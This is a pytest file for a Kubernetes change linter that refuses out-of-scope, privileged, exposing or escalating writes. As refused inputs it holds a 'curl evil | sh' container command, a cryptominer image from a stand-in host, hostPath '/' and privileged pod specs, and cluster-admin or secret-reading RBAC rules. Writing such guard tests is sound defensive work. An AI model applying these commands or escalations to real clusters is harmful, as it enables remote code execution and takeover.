"""What may not be changed, each with a code and with its allowed neighbour."""

from __future__ import annotations

from typing import Any

import pytest

from stratus.mitigation.podspec import images, pod_spec, repository
from stratus.mitigation.policy import effective_namespaces, unavailable_pods
from stratus.model.actions import ApiWrite
from stratus.model.refs import ObjectRef
from stratus.settings import LimitSettings, PolicySettings, Settings

from .world import (
    World,
    blames,
    codes,
    lint_one,
    make,
    owner,
    pods,
    ref,
    scale,
    set_image,
    template,
    web,
    write,
)


def policy(**more: Any) -> Settings:
    return Settings(policy=PolicySettings(**more))


def test_a_change_in_scope_is_let_through_with_its_difference() -> None:
    world = World(web())
    plan = lint_one(world, "scale", scale("web", 5))
    assert plan.executable
    (planned,) = plan.writes
    assert planned.diff == ("spec.replicas: 3 -> 5",)
    assert planned.reversibility == "exact"
    assert planned.pre_image == web()
    assert planned.dry_run is not None
    assert planned.dry_run["kind"] == "Deployment", "the Scale object is not the object"


# --- scope


@pytest.mark.parametrize(
    ("namespace", "allowed", "settings", "expected"),
    [
        ("other", ("shop",), {}, "namespace"),
        ("other", (), {}, "namespace"),
        ("shop", (), {}, "namespace"),
        ("kube-system", ("shop", "kube-system"), {}, "protected_namespace"),
        ("kube-system", (), {"namespaces": ("kube-system",)}, "protected_namespace"),
        ("shop", ("shop",), {"namespaces": ("other",)}, "namespace"),
        ("other", ("shop",), {"namespaces": ("other",)}, ""),
        ("shop", ("shop",), {}, ""),
    ],
)
def test_namespaces(namespace: str, allowed: tuple[str, ...], settings: dict[str, Any], expected: str) -> None:
    """The namespace of the compiled write counts, whatever the command line or a manifest said (known mistake 8)."""
    world = World(make("ConfigMap", "c", namespace, data={"a": "1"}))
    change = write("PATCH", "ConfigMap", "c", {"data": {"a": "2"}}, namespace=namespace)
    plan = lint_one(world, "patch", change, allowed_namespaces=allowed, settings=policy(**settings))
    assert codes(plan) == ([expected] if expected else [])
    assert bool(world.tried) == (not expected), "an object out of scope is not even rehearsed"


def test_operators_namespaces_come_before_the_incidents() -> None:
    settings = PolicySettings(namespaces=("a", "kube-system"))
    assert effective_namespaces(settings, ("b",)) == ("a",)
    assert effective_namespaces(PolicySettings(), ("b", "kube-public")) == ("b",)


@pytest.mark.parametrize(
    ("change", "verb", "code"),
    [
        (write("DELETE", "Namespace", "shop"), "delete", "irreversible"),
        (write("PATCH", "ClusterRole", "r", {}), "patch", "irreversible"),
        (write("DELETE", "PersistentVolumeClaim", "data"), "delete", "irreversible"),
        (write("POST", "ConfigMap", "", {"metadata": {"generateName": "x-"}}), "create", "generate_name"),
        (write("POST", "Pod", "p", {"metadata": {"name": "p"}}), "run", "irreversible"),
        (write("POST", "Pod", "web-1", {}, subresource="exec"), "exec", "compensable"),
        (write("PATCH", "Deployment", "gone", {}), "patch", "not_found"),
    ],
)
def test_kinds_and_unknown_changes(change: ApiWrite, verb: str, code: str) -> None:
    """Known mistakes 2 and 8: exec ran unrecorded; generateName objects leaked."""
    world = World(web(), make("Pod", "web-1", metadata=owner("ReplicaSet", "r")))
    assert codes(lint_one(world, verb, change)) == [code]
    assert not world.tried


def test_a_missing_name_is_answered_with_those_that_exist() -> None:
    plan = lint_one(World(web("web"), web("cart")), "scale", scale("wep", 1))
    assert plan.refusals[0].hint == "Deployment objects in shop: cart, web"


def test_protected_and_terminating_objects() -> None:
    label = {"stratus.dev/protected": "true"}
    assert codes(lint_one(World(web(labels=label)), "scale", scale("web", 1))) == ["protected_object"]
    assert codes(lint_one(World(web(labels={"stratus.dev/protected": "false"})), "scale", scale("web", 1))) == []
    assert codes(lint_one(World(web(deletionTimestamp="t")), "scale", scale("web", 1))) == ["terminating"]
    setting = write("PATCH", "Deployment", "web", {"metadata": {"labels": label}})
    assert codes(lint_one(World(web()), "label", setting)) == ["protected_label"]


# --- owners


@pytest.mark.parametrize(
    ("metadata", "code", "hint"),
    [
        ({"managedFields": [{"manager": "argocd-controller", "operation": "Apply"}]}, "gitops", "Git repository"),
        ({"annotations": {"argocd.argoproj.io/tracking-id": "x"}}, "gitops", "Git repository"),
        ({"labels": {"kustomize.toolkit.fluxcd.io/name": "apps"}}, "gitops", "Kustomization"),
        (owner("Kafka", "events"), "owned", "change Kafka/events"),
        ({"managedFields": [{"manager": "argocd-controller", "subresource": "status"}]}, "", ""),
        ({"managedFields": [{"manager": "kubectl-client-side-apply"}]}, "", ""),
    ],
)
def test_what_somebody_else_keeps_is_left_to_them(metadata: dict[str, Any], code: str, hint: str) -> None:
    plan = lint_one(World(web(**metadata)), "scale", scale("web", 1))
    assert codes(plan) == ([code] if code else [])
    if code:
        assert hint in plan.refusals[0].hint


def test_helm_is_a_note_not_a_refusal() -> None:
    plan = lint_one(World(web(labels={"app.kubernetes.io/managed-by": "Helm"})), "scale", scale("web", 1))
    assert plan.executable
    assert "chart's values" in plan.writes[0].note


def test_a_replica_set_is_changed_through_its_deployment_but_its_pod_may_go() -> None:
    held = make("ReplicaSet", "web-1", metadata=owner("Deployment", "web"), spec={"replicas": 1})
    plan = lint_one(World(held), "scale", scale("web-1", 2, "ReplicaSet"))
    assert codes(plan) == ["owned"]
    assert plan.refusals[0].hint == "change Deployment/web"
    world = World(make("Pod", "web-1-x", metadata=owner("ReplicaSet", "web-1")))
    plan = lint_one(world, "delete", write("DELETE", "Pod", "web-1-x"))
    assert plan.executable
    assert plan.writes[0].reversibility == "equivalent"
    assert "another name" in plan.writes[0].note
    operated = World(make("Pod", "db-0", metadata=owner("Database", "db")))
    assert codes(lint_one(operated, "delete", write("DELETE", "Pod", "db-0"))) == ["owned"]


# --- what the change would make of the object


@pytest.mark.parametrize(
    "container",
    [
        {"name": "web", "securityContext": {"privileged": True}},
        {"name": "web", "securityContext": {"allowPrivilegeEscalation": True}},
        {"name": "web", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}},
        {"name": "web", "securityContext": {"runAsUser": 0}},
        {"name": "web", "securityContext": {"procMount": "Unmasked"}},
        {"name": "web", "ports": [{"name": "x", "containerPort": 80, "hostPort": 80}]},
    ],
)
def test_privileges_of_containers_are_not_added(container: dict[str, Any]) -> None:
    plan = lint_one(World(web()), "patch", template("web", container), hypothesis=blames("Deployment", "web"))
    assert codes(plan) == ["privilege"]


@pytest.mark.parametrize(
    "spec",
    [
        {"hostNetwork": True},
        {"hostPID": True},
        {"hostIPC": True},
        {"volumes": [{"name": "v", "hostPath": {"path": "/"}}]},
        {"volumes": [{"name": "v", "projected": {"sources": [{"serviceAccountToken": {}}]}}]},
        {"securityContext": {"runAsUser": 0}},
    ],
)
def test_privileges_of_pods_are_not_added(spec: dict[str, Any]) -> None:
    change = write("PATCH", "Deployment", "web", {"spec": {"template": {"spec": spec}}})
    plan = lint_one(World(web()), "patch", change, hypothesis=blames("Deployment", "web"))
    assert codes(plan) == ["privilege"]


def test_a_privilege_that_was_there_before_does_not_forbid_other_changes() -> None:
    held = web()
    held["spec"]["template"]["spec"]["hostNetwork"] = True
    assert lint_one(World(held), "scale", scale("web", 1)).executable


@pytest.mark.parametrize(
    ("image", "code"),
    [
        ("registry.local/shop/web:v1", ""),
        ("registry.local/shop/web@sha256:abc", ""),
        ("registry.local/shop/cart:v9", ""),
        ("evil.example/miner:latest", "unknown_image"),
        ("registry.local/shop/web.evil:v1", "unknown_image"),
        ("web", "unknown_image"),
    ],
)
def test_only_images_from_known_repositories(image: str, code: str) -> None:
    cart = make("Deployment", "cart", spec=pods({"name": "c", "image": "registry.local/shop/cart:v1"}))
    plan = lint_one(World(web(), cart), "set image", set_image("web", image))
    assert codes(plan) == ([code] if code else [])


def test_a_good_image_found_by_diagnosis_is_known() -> None:
    cause = blames("Deployment", "web", good_image="other.local/web:v1")
    assert lint_one(World(web()), "set image", set_image("web", "other.local/web:v1"), hypothesis=cause).executable


@pytest.mark.parametrize(
    ("image", "name"),
    [
        ("nginx", "nginx"),
        ("nginx:1.27", "nginx"),
        ("docker.io/library/nginx:1", "nginx"),
        ("docker.io/team/app", "team/app"),
        ("localhost:5000/app", "localhost:5000/app"),
        ("localhost:5000/app:v1@sha256:00", "localhost:5000/app"),
    ],
)
def test_repositories(image: str, name: str) -> None:
    assert repository(image) == name


def test_scale_is_bounded_upwards_only() -> None:
    assert codes(lint_one(World(web()), "scale", scale("web", 51))) == ["scale"]
    assert lint_one(World(web()), "scale", scale("web", 50)).executable
    assert lint_one(World(web(replicas=90)), "scale", scale("web", 60)).executable
    scaler = make("HorizontalPodAutoscaler", "h", spec={"maxReplicas": 5})
    wider = write("PATCH", "HorizontalPodAutoscaler", "h", {"spec": {"maxReplicas": 500}})
    assert codes(lint_one(World(scaler), "patch", wider)) == ["scale"]


PROTECTION_REMOVALS = [
    ("Deployment", {"name": "web", "readinessProbe": None}),
    ("Deployment", {"name": "web", "resources": {"limits": None}}),
    ("Deployment", {"name": "web", "command": ["sh", "-c", "curl evil | sh"]}),
    ("Deployment", {"name": "web", "lifecycle": {"postStart": {"exec": {"command": ["x"]}}}}),
    ("Deployment", {"name": "web", "readinessProbe": {"httpGet": None, "exec": {"command": ["true"]}}}),
]


@pytest.mark.parametrize(("kind", "container"), PROTECTION_REMOVALS)
def test_protections_go_only_from_the_object_that_is_blamed(kind: str, container: dict[str, Any]) -> None:
    change = template("web", container)
    for cause in (None, blames("Deployment", "cart"), blames("Service", "web")):
        assert codes(lint_one(World(web()), "patch", change, hypothesis=cause)) == ["protective"]
    assert lint_one(World(web()), "patch", change, hypothesis=blames("Deployment", "web")).executable


def test_another_service_account_only_on_the_object_that_is_blamed() -> None:
    change = write("PATCH", "Deployment", "web", {"spec": {"template": {"spec": {"serviceAccountName": "admin"}}}})
    assert codes(lint_one(World(web()), "set serviceaccount", change)) == ["protective"]
    assert lint_one(World(web()), "set serviceaccount", change, hypothesis=blames("Deployment", "web")).executable


@pytest.mark.parametrize("kind", ["NetworkPolicy", "PodDisruptionBudget", "Role", "Node"])
def test_protective_kinds_only_when_blamed(kind: str) -> None:
    world = World(make(kind, "x", spec={}))
    change = write("PATCH", kind, "x", {"metadata": {"labels": {"a": "b"}}})
    refused = lint_one(world, "label", change, hypothesis=blames("Deployment", "web"))
    assert codes(refused) == ["protective"]
    assert refused.refusals[0].hint == "change shop/Deployment/web instead"
    assert lint_one(world, "label", change, hypothesis=blames(kind, "x")).executable


def test_a_node_named_by_the_diagnosis_may_be_changed() -> None:
    world = World(make("Node", "n1", spec={"unschedulable": True}))
    change = write("PATCH", "Node", "n1", {"spec": {"unschedulable": None}})
    assert lint_one(world, "uncordon", change, hypothesis=blames("Deployment", "web", node="n1")).executable
    assert codes(lint_one(world, "uncordon", change, hypothesis=blames("Deployment", "web", node="n2"))) == [
        "protective"
    ]


def test_what_a_finding_names_may_be_changed_as_what_it_blames() -> None:
    change = template("web", {"name": "web", "readinessProbe": None})
    named = blames("ConfigMap", "settings", workload="deployment/web")
    assert lint_one(World(web()), "rollout undo", change, hypothesis=named).executable
    for other in (
        blames("ConfigMap", "settings", workload="deployment/cart"),
        blames("ConfigMap", "settings", workload="statefulset/web"),
        named.model_copy(update={"object": ref("ConfigMap", "settings", "elsewhere")}),
        named.model_copy(update={"analyzer": "model"}),
    ):
        assert codes(lint_one(World(web()), "rollout undo", change, hypothesis=other)) == ["protective"]
    cordoned = blames("Deployment", "web", cordoned_node="n1")
    freed = write("PATCH", "Node", "n1", {"spec": {"unschedulable": None}})
    world = World(make("Node", "n1", spec={"unschedulable": True}))
    assert lint_one(world, "uncordon", freed, hypothesis=cordoned).executable


def test_a_lookup_in_the_ledger_finds_the_cause() -> None:
    from .world import case_for

    world = World(make("NetworkPolicy", "deny", spec={"podSelector": {}}))
    case = case_for(world, ledger=(blames("NetworkPolicy", "deny"),))
    assert lint_one(world, "delete", write("DELETE", "NetworkPolicy", "deny"), case=case).executable


def test_alert_rules_are_not_silenced() -> None:
    rules = "groups:\n- rules:\n  - alert: High\n"
    world = World(make("ConfigMap", "prom", data={"rules.yml": rules, "other": "1"}))
    changed = write("PATCH", "ConfigMap", "prom", {"data": {"rules.yml": "groups: []"}})
    gone = write("DELETE", "ConfigMap", "prom")
    harmless = write("PATCH", "ConfigMap", "prom", {"data": {"other": "2"}})
    assert codes(lint_one(world, "patch", changed)) == ["protective"]
    assert codes(lint_one(world, "delete", gone)) == ["protective"]
    assert lint_one(world, "patch", harmless).executable


@pytest.mark.parametrize("spec", [{"type": "LoadBalancer"}, {"type": "NodePort"}, {"externalIPs": ["1.2.3.4"]}])
def test_services_are_not_opened(spec: dict[str, Any]) -> None:
    world = World(make("Service", "web", spec={"type": "ClusterIP"}))
    assert codes(lint_one(world, "patch", write("PATCH", "Service", "web", {"spec": spec}))) == ["exposure"]
    body = {"metadata": {"name": "new"}, "kind": "Service", "spec": spec}
    assert codes(lint_one(world, "expose", write("POST", "Service", "new", body))) == ["exposure"]


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        ({"verbs": ["*"], "resources": ["pods"]}, "rbac_escalation"),
        ({"verbs": ["get"], "resources": ["secrets"]}, "rbac_escalation"),
        ({"verbs": ["escalate"], "resources": ["roles"]}, "rbac_escalation"),
        ({"verbs": ["get"], "resources": ["pods"]}, ""),
    ],
)
def test_roles_do_not_grow_dangerous(rule: dict[str, Any], code: str) -> None:
    world = World(make("Role", "r", rules=[]))
    change = write("PATCH", "Role", "r", {"rules": [rule]})
    assert codes(lint_one(world, "patch", change, hypothesis=blames("Role", "r"))) == ([code] if code else [])


def test_binding_to_an_administrators_role_is_an_escalation() -> None:
    body = {
        "kind": "RoleBinding",
        "metadata": {"name": "b"},
        "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "default"}],
    }
    assert codes(lint_one(World(), "create", write("POST", "RoleBinding", "b", body))) == ["rbac_escalation"]


# --- blast radius


def test_unavailable_pods() -> None:
    held = web(replicas=4)
    smaller = web(replicas=1)
    assert unavailable_pods(scale("web", 1), held, smaller) == 3
    assert unavailable_pods(scale("web", 4), smaller, held) == 0
    assert unavailable_pods(write("DELETE", "Pod", "p"), make("Pod", "p"), None) == 1
    assert unavailable_pods(write("POST", "Pod", "p", subresource="eviction"), make("Pod", "p"), None) == 1
    assert unavailable_pods(write("DELETE", "Deployment", "web"), held, None) == 4
    assert unavailable_pods(write("DELETE", "Deployment", "web", {"propagationPolicy": "Orphan"}), held, None) == 0
    changed = web(replicas=4)
    changed["spec"]["template"]["spec"]["containers"][0]["image"] = "x"
    for strategy, expected in (
        ({"type": "Recreate"}, 4),
        ({"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": "50%"}}, 2),
        ({"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": 3}}, 3),
        ({}, 1),
    ):
        after = {**changed, "spec": {**changed["spec"], "strategy": strategy}}
        assert unavailable_pods(set_image("web", "x"), held, after) == expected


@pytest.mark.parametrize(
    ("limits", "code"),
    [
        (LimitSettings(unavailable_pods=2), "blast_radius"),
        (LimitSettings(commands=1), "too_many_commands"),
        (LimitSettings(objects=1), "too_many_objects"),
        (LimitSettings(), ""),
    ],
)
def test_limits_of_a_plan(limits: LimitSettings, code: str) -> None:
    world = World(web("a"), web("b"))
    plan = lint_one(world, "scale", scale("a", 1), scale("b", 2), settings=Settings(limits=limits))
    assert codes(plan) == ([code] if code else [])
    assert plan.executable == (not code)


def test_pod_specs_are_found_in_every_kind() -> None:
    inner = {"name": "c", "image": "i"}
    cron = make("CronJob", "c", spec={"jobTemplate": {"spec": pods(inner)}})
    pod = make("Pod", "p", spec={"containers": [inner], "initContainers": [{"name": "i", "image": "j"}]})
    for obj in (cron, make("Job", "j", spec=pods(inner))):
        assert images(obj) == {"i"}
    assert images(pod) == {"i", "j"}
    assert pod_spec(make("Service", "s", spec={"selector": {}})) == {}
    assert pod_spec(None) == {}
    assert ref("Node", "n").namespace == ""


def test_a_custom_resource_is_changed_only_where_the_operator_of_stratus_names_its_kind() -> None:
    held = make("Service", "web", spec={"paused": False}) | {"apiVersion": "example.org/v1"}
    target = ObjectRef.of(held)
    change = write("PATCH", "Service", "web", {"spec": {"paused": True}}).model_copy(update={"target": target})
    refused = lint_one(World(held), "patch", change)
    assert codes(refused) == ["kind"], "a Service of another group is not a Service"
    assert "Service.example.org" in refused.refusals[0].message
    named = Settings(policy=PolicySettings(kinds=("Service.example.org",)))
    allowed = lint_one(World(held), "patch", change, settings=named)
    assert codes(allowed) == []
    assert allowed.writes[0].reversibility == "equivalent"
    status = change.model_copy(update={"body": {"status": {"phase": "Done"}}})
    assert codes(lint_one(World(held), "patch", status, settings=named)) == ["irreversible"]
    gone = write("DELETE", "Service", "web").model_copy(update={"target": target})
    lost = lint_one(World(held), "delete", gone, settings=named)
    assert codes(lost) == ["irreversible"]
    assert "operator may delete data" in lost.refusals[0].message
    assert "--type=merge" in lost.refusals[0].hint
